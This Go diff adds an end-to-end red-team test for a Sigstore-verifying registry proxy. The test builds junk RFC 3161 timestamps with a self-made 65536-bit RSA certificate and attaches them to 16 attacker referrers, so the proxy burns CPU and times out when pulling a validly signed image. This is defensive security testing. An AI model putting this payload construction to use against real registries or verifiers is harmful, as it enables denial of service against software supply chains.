@@ -1,0 +1,288 @@
+package e2e
+
+import (
+	"context"
+	"crypto"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"encoding/json"
+	"fmt"
+	"io"
+	"math/big"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/digitorus/timestamp"
+	"github.com/google/go-containerregistry/pkg/crane"
+	"github.com/google/go-containerregistry/pkg/name"
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/types"
+	protobundle "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
+	protocommon "github.com/sigstore/protobuf-specs/gen/pb-go/common/v1"
+	"google.golang.org/protobuf/encoding/protojson"
+
+	"github.com/cosign-dev/cosign/sigstore/sigstoretest"
+)
+
+// Red team 4: keyless signatures and attestations, attacked by someone who
+// can push anything to the upstream registry and has an OIDC account of
+// their own (genuine certificates, log entries and timestamps of the
+// trusted Sigstore for an identity no policy names), but no trusted key and
+// no certificate for a trusted identity. Each test fails while the attack
+// works and passes once the proxy stops it. verifier/redteam_keyless_test.go
+// has the same attacks without clients, and the ones that failed.
+
+const (
+	rt4Mallory = "mallory@evil.example"
+	rt4Issuer  = "https://token.actions.githubusercontent.com"
+	rt4Subject = "https://github.com/acme/app/.github/workflows/release.yml@refs/heads/main"
+)
+
+// rt4Config is a proxy whose one policy trusts the GitHub workflow identity
+// of the Sigstore whose root is root.json, on registry/prod/**. The
+// upstream is reached at url (the registry itself, or a front).
+const rt4Config = `listen: "%%[1]s"
+upstreams:
+  - registry: %[1]s
+    url: http://%[2]s
+defaultUpstream: %[1]s
+upstreamTimeout: 5s
+trustedRoots:
+  test: root.json
+policies:
+  - name: prod
+    match: ["%[1]s/prod/**"]
+    keyless:
+      trustedRoot: test
+      identities:
+        - issuer: %[3]s
+          subject: %[4]s
+defaultPolicy: deny
+`
+
+// rt4JunkSigner "signs" for an RSA public key it has no private key for:
+// random bytes below the modulus, which a verifier must exponentiate to
+// reject.
+type rt4JunkSigner struct{ pub *rsa.PublicKey }
+
+func (j rt4JunkSigner) Public() crypto.PublicKey { return j.pub }
+
+func (j rt4JunkSigner) Sign(io.Reader, []byte, crypto.SignerOpts) ([]byte, error) {
+	s := make([]byte, (j.pub.N.BitLen()+7)/8)
+	if _, err := rand.Read(s); err != nil {
+		return nil, err
+	}
+	s[0] = 0
+	return s, nil
+}
+
+// rt4JunkTimestamp is a granted RFC 3161 response over sig made without any
+// timestamp authority: its SignedData embeds a self-made certificate for a
+// 65536-bit "RSA" key (any odd N) with exponent 2^31-1, and one signer
+// whose signature fails, after about 120 ms of modular exponentiation.
+func rt4JunkTimestamp(t testing.TB, sig []byte) []byte {
+	t.Helper()
+	const bits = 65536
+	n, err := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), bits))
+	if err != nil {
+		t.Fatal(err)
+	}
+	n.SetBit(n, bits-1, 1)
+	n.SetBit(n, 0, 1)
+	pub := &rsa.PublicKey{N: n, E: 1<<31 - 1}
+	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	eku, err := asn1.Marshal([]asn1.ObjectIdentifier{{1, 3, 6, 1, 5, 5, 7, 3, 8}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: pkix.Name{CommonName: "not a timestamp authority"},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
+		ExtraExtensions: []pkix.Extension{{Id: asn1.ObjectIdentifier{2, 5, 29, 37}, Critical: true, Value: eku}}}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, pub, k)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cert, err := x509.ParseCertificate(der)
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := sha256.Sum256(sig)
+	ts := timestamp.Timestamp{HashAlgorithm: crypto.SHA256, HashedMessage: h[:], Time: time.Now(), SerialNumber: big.NewInt(1),
+		Policy: asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 57264, 2}, AddTSACertificate: true}
+	resp, err := ts.CreateResponseWithOpts(cert, rt4JunkSigner{pub}, crypto.SHA256)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return resp
+}
+
+// rt4JunkBundle is a genuine bundle of the attacker's own identity on the
+// trusted Sigstore (for a digest of their own), with `junk` junk
+// timestamps added to its genuine one.
+func rt4JunkBundle(t testing.TB, s *sigstoretest.Sigstore, junk int) []byte {
+	t.Helper()
+	sum := sha256.Sum256([]byte("mallory's own image"))
+	raw, err := s.SignatureBundle(v1.Hash{Algorithm: "sha256", Hex: fmt.Sprintf("%x", sum)},
+		sigstoretest.Options{Identity: rt4Mallory, Issuer: rt4Issuer})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var pb protobundle.Bundle
+	if err := protojson.Unmarshal(raw, &pb); err != nil {
+		t.Fatal(err)
+	}
+	tok := rt4JunkTimestamp(t, pb.GetDsseEnvelope().GetSignatures()[0].GetSig())
+	tv := pb.GetVerificationMaterial().GetTimestampVerificationData()
+	for range junk {
+		tv.Rfc3161Timestamps = append(tv.Rfc3161Timestamps, &protocommon.RFC3161SignedTimestamp{SignedTimestamp: tok})
+	}
+	b, err := protojson.Marshal(&pb)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// procCPU is the CPU time (user and system) process pid used so far.
+func procCPU(t testing.TB, pid int) time.Duration {
+	t.Helper()
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The fields after the command name (in parentheses, which may hold
+	// spaces): state is field 3, utime 14, stime 15, in clock ticks.
+	f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
+	utime, err1 := strconv.ParseInt(f[11], 10, 64)
+	stime, err2 := strconv.ParseInt(f[12], 10, 64)
+	if err1 != nil || err2 != nil {
+		t.Fatalf("/proc/%d/stat: %q", pid, b)
+	}
+	const ticks = 100 // USER_HZ on Linux
+	return time.Duration(utime+stime) * time.Second / ticks
+}
+
+// TestRedTeam4JunkKeylessReferrersStallASignedImage: an image signed
+// correctly by the trusted identity (a Sigstore bundle referrer, cosign
+// v3's default) gets 16 junk referrers from the attacker, listed before its
+// own by the registry's referrers API (a front answers it here; on a real
+// registry the attacker grinds referrer digests to sort first, and cannot
+// be removed from the list). Each junk referrer is a genuine bundle of the
+// attacker's own identity with 6 extra RFC 3161 timestamps that embed a
+// self-made 65536-bit RSA certificate: sigstore-go verifies each
+// timestamp's signature with the embedded key, ~120 ms apiece, before it
+// looks at whose certificate it is. The proxy reads the first 16
+// referrers, spends ~12 s of CPU on them, and when it asks for the next 16
+// (the valid one among them) its lookup deadline has passed: the pull
+// fails with 504, nothing is cached, and every pull of the image, by
+// containerd here, fails the same way while burning the same CPU. 16
+// referrers of 140 KiB are far within the documented bounds (1,000
+// referrers, 32 MiB) up to which junk "costs reading, not a refusal".
+//
+// Safe: the signed image is served, and a cold decision costs the proxy
+// at most 3 s of CPU.
+func TestRedTeam4JunkKeylessReferrersStallASignedImage(t *testing.T) {
+	t.Parallel()
+	l := newGateLab(t)
+	ss, err := sigstoretest.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const repo = "prod/app"
+	d := PushRandomImage(t, l.registry+"/"+repo+":v1")
+	signed, err := ss.SignatureBundle(d, sigstoretest.Options{Identity: rt4Subject, Issuer: rt4Issuer})
+	if err != nil {
+		t.Fatal(err)
+	}
+	target, err := name.NewRepository(l.registry+"/"+repo, name.Insecure)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := sigstoretest.WriteSignatureBundle(context.Background(), target, d, signed, crane.GetOptions(crane.Insecure).Remote...); err != nil {
+		t.Fatal(err)
+	}
+
+	// The valid referrer, as the writer listed it under the referrers tag.
+	var tagIndex struct {
+		Manifests []craftedDescriptor `json:"manifests"`
+	}
+	a := send(t, http.MethodGet, "http://"+l.registry+"/v2/"+repo+"/manifests/sha256-"+d.Hex, "Accept", string(types.OCIImageIndex))
+	if err := json.Unmarshal(a.body, &tagIndex); err != nil || len(tagIndex.Manifests) != 1 {
+		t.Fatalf("referrers tag of %s: %s (%v), want one bundle entry", repo, a, err)
+	}
+	valid := tagIndex.Manifests[0]
+
+	// The junk: one bundle, respaced 16 ways (so 16 blobs, 16 referrers,
+	// and no two alike for the verifier's per-lookup memo).
+	base := rt4JunkBundle(t, ss, 6)
+	self := craftedDescriptor{MediaType: string(types.DockerManifestSchema2), Digest: d.String(),
+		Size: int64(len(manifestBytes(t, l.registry+"/"+repo+"@"+d.String())))}
+	empty := l.raw.emptyConfig(repo)
+	var junk []craftedDescriptor
+	for i := range 16 {
+		b := append([]byte("{"+strings.Repeat(" ", i)), base[1:]...)
+		layer := l.raw.blob(repo, bundleType, b)
+		e, _ := l.raw.manifestJSON(repo, "", craftedManifest{SchemaVersion: 2, MediaType: string(types.OCIManifestSchema1),
+			ArtifactType: bundleType, Config: &empty, Layers: &[]craftedDescriptor{layer}, Subject: &self})
+		e.ArtifactType = bundleType
+		junk = append(junk, e)
+	}
+	apiPath := "/v2/" + repo + "/referrers/" + d.String()
+	front := newUpstreamFront(t, l.registry, func(w http.ResponseWriter, r *http.Request) bool {
+		if r.URL.Path != apiPath {
+			return false
+		}
+		body, _ := json.Marshal(referrersIndex(append(append([]craftedDescriptor(nil), junk...), valid)))
+		w.Header().Set("Content-Type", string(types.OCIImageIndex))
+		_, _ = w.Write(body)
+		return true
+	})
+
+	dir := t.TempDir()
+	rootJSON, err := ss.TrustedRootJSON()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "root.json"), rootJSON, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	p := startProxy(t, l.bin, dir, fmt.Sprintf(rt4Config, l.registry, front.host(), rt4Issuer, rt4Subject))
+	pid := p.proc.cmd.Process.Pid
+
+	cpu0, start := procCPU(t, pid), time.Now()
+	a = send(t, http.MethodGet, manifestURL(p.addr, repo, "v1"), "Accept", manifestAccept)
+	cpu := procCPU(t, pid) - cpu0
+	t.Logf("GET %s:v1 behind 16 junk referrers of %d bytes: %s after %v, proxy CPU %v",
+		repo, len(base), a, time.Since(start).Round(time.Millisecond), cpu)
+	if a.status != http.StatusOK {
+		t.Errorf("GET %s:v1 (signed by the trusted identity, 16 junk keyless referrers ahead of its bundle) "+
+			"was answered %s, want 200", repo, a)
+	}
+	if cpu > 3*time.Second {
+		t.Errorf("one cold decision on 16 junk keyless referrers (%d bytes each) cost the proxy %v of CPU; want at most 3s", len(base), cpu)
+	}
+	if a.status == http.StatusOK {
+		return // the rest shows what a client sees while the attack works
+	}
+	c := NewContainerdClient(t, Mirror{Proxy: p.addr, Upstream: l.registry})
+	cpu0, start = procCPU(t, pid), time.Now()
+	res, err := c.Pull(context.Background(), repo+":v1")
+	t.Logf("ctr pull %s:v1: %v after %v, proxy CPU %v", repo, err, time.Since(start).Round(time.Millisecond), procCPU(t, pid)-cpu0)
+	if err != nil {
+		t.Errorf("ctr pull %s:v1 (correctly signed) failed through the proxy: %v\n%s", repo, err, lastLines(res.Output, 3))
+	}
+}
